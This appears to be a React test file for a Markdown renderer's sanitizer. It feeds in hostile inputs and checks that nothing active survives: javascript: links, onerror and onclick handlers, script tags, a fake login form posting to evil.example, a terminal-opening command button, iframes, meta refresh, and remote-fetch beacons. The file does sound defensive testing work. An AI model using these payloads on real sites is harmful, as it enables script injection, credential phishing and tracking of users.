import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import * as React from 'react';
import { afterEach, describe, expect, it } from 'vitest';

import { Markdown } from '../../src/lab/markdown';
import hostile from '../cases/hostile.json';

afterEach(cleanup);

/** The element that shows `text`. */
function shown(text: string): HTMLElement {
  render(<Markdown text={text} />);
  return document.querySelector<HTMLElement>('.mreg-markdown')!;
}

/** The names of the elements and attributes in `element`. */
function namesIn(element: HTMLElement): Set<string> {
  const all = [...element.querySelectorAll('*')];
  return new Set(all.flatMap(each => [each.localName, ...each.getAttributeNames()]));
}

describe('a description', () => {
  it('shows text, lists, tables, code and links', () => {
    const element = shown(
      '# Fraud\n\nFinds **fraud** in _payments_.\n\n- one\n- [x] done\n- [ ] open\n\n1. first\n\n' +
        '| metric | value |\n| --- | ---: |\n| auc | 0.9 |\n\n```python\nload("m")\n```\n\n[more](https://example.org/a)'
    );
    for (const selector of ['h1', 'strong', 'em', 'ul > li', 'ol > li', 'table th', 'td[align=right]', 'pre > code']) {
      expect(element.querySelector(selector), selector).not.toBeNull();
    }
    expect(element.textContent).toContain('☑ done');
    expect(element.textContent).toContain('☐ open');
    expect(element.querySelector('code')?.textContent).toBe('load("m")\n');
  });

  it('opens links in a window that knows nothing of this one', () => {
    shown('[site](https://example.org) and [mail](mailto:a@example.org)');
    for (const link of screen.getAllByRole<HTMLAnchorElement>('link')) {
      expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer nofollow']);
    }
    expect(screen.getAllByRole('link')).toHaveLength(2);
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](/lab?reset)',
    '[x](//evil.example)',
    '[x](data:text/html,hi)',
    '[x](#top)',
    '<a href="  java\nscript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>'
  ])('leads nowhere by %s', text => {
    shown(text);
    expect(screen.queryByRole('link')).toBeNull();
  });

  it.each([
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">Run</button>',
    '<p data-commandlinker-command="x" data-x="y" onclick="alert(1)" style="position:fixed" class="jp-x" id="main">p</p>',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="x">',
    '<svg><image href="https://evil.example/p.png"/><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/s.css";</style>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<img src=x onerror="alert(1)"><script>alert(1)</script>',
    '<img srcset="https://evil.example/p.png 2x" alt="x"><picture><source srcset="https://evil.example/p.png"></picture>',
    '<textarea name="x"></textarea><select><option>x</option></select><details open><summary>x</summary>y</details>',
    '<table background="https://evil.example/p.png"><tr><td background="https://evil.example/p.png">x</td></tr></table>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '```mermaid\nflowchart LR\n  A@{ img: "https://evil.example/p.png" }\n```'
  ])('keeps nothing that does anything of %s', text => {
    const allowed = ['p', 'a', 'pre', 'code', 'table', 'tbody', 'tr', 'td', 'br', 'img', 'src', 'alt'];
    const element = shown(text);
    expect([...namesIn(element)].filter(name => !allowed.includes(name))).toEqual([]);
    expect(element.querySelectorAll('img, [src], [href]')).toHaveLength(0);
  });

  it.each([
    'https://example.org/p.png',
    'http://example.org/p.png',
    '//example.org/p.png',
    String.raw`\\example.org/p`
  ])('fetches a picture from %s only after a click', source => {
    const element = shown(`<img src="${source}" alt="A curve">`);
    expect(element.querySelector('img')).toBeNull();
    const button = screen.getByRole('button', { name: 'Show picture: A curve' });
    expect(button.title).toBe(source);
    fireEvent.click(button);
    const picture = element.querySelector('img');
    expect([picture?.getAttribute('src'), picture?.alt, picture?.referrerPolicy]).toEqual([
      source,
      'A curve',
      'no-referrer'
    ]);
  });

  it('shows a picture that is in the text, and the words for one that is nowhere', () => {
    const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';
    expect(shown(`![dot](${pixel})`).querySelector('img')?.getAttribute('src')).toBe(pixel);
    cleanup();
    for (const source of [
      'curve.png',
      'attachment:curve.png',
      'data:image/svg+xml;base64,PHN2Zy8+',
      '/files/curve.png'
    ]) {
      const element = shown(`![a curve](${source})`);
      expect(element.textContent.trim()).toBe('a curve');
      expect(element.querySelector('img, button')).toBeNull();
      cleanup();
    }
  });

  // tests/commands/test_markdown.py holds what a notebook shows to the same table.
  it.each(hostile)('does nothing by itself: %s', text => {
    const element = shown(text);
    const harmless = ['p', 'a', 'pre', 'code', 'table', 'tbody', 'tr', 'td', 'class'];
    expect([...namesIn(element)].filter(name => !harmless.includes(name))).toEqual([]);
    expect(element.querySelectorAll('[src], [href]')).toHaveLength(0);
  });

  it('follows another text', () => {
    const at = document.body.appendChild(document.createElement('div'));
    render(<Markdown text="one" />, { container: at });
    render(<Markdown text="two" />, { container: at });
    expect(at.textContent.trim()).toContain('two');
    at.remove();
  });
});
